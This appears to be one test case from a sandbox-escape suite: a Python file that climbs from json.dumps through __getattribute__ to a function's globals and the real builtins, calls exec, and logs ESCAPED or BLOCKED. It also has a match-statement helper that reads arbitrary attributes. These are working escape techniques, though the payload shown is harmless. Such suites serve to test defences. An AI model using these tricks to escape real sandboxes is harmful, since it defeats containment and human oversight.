@@ -1,0 +1,48 @@
+# id: attr-double-getattribute
+# technique: __getattribute__ asked for __getattribute__
+# layer: python
+# goal: capability
+# success_marker: ESCAPED
+
+
+U = chr(95) * 2
+
+
+def prove_globals(ctx, id, g):
+    """a function's globals lead to the real builtins"""
+    b = g[U + 'builtins' + U]
+    run = b['exec'] if isinstance(b, dict) else getattr(b, 'exec')
+    ns = {}
+    run('x = 6 * 7', ns)
+    if ns['x'] == 42:
+        ctx.log.info('ESCAPED ' + id + ': real builtins')
+
+
+def peek(obj, name):
+    """reads any attribute through a class pattern whose names are computed"""
+    meta = type('Meta', (type,), {U + 'instancecheck' + U: lambda cls, o: True})
+    any_class = meta('Any', (), {U + 'match_args' + U: (name,)})
+    match obj:
+        case any_class(found):
+            return found
+    raise ValueError('nothing under ' + name)
+
+
+import json
+
+
+class Plain:
+    pass
+
+
+def attempt(ctx):
+    inner = Plain.__getattribute__(json.dumps, '__getattribute__')
+    prove_globals(ctx, 'attr-double-getattribute', inner(U + 'globals' + U))
+
+
+def tick(ctx):
+    try:
+        attempt(ctx)
+    except Exception as e:
+        ctx.log.info('BLOCKED attr-double-getattribute: ' + repr(e)[:160])
+    ctx.log.info('DONE attr-double-getattribute')
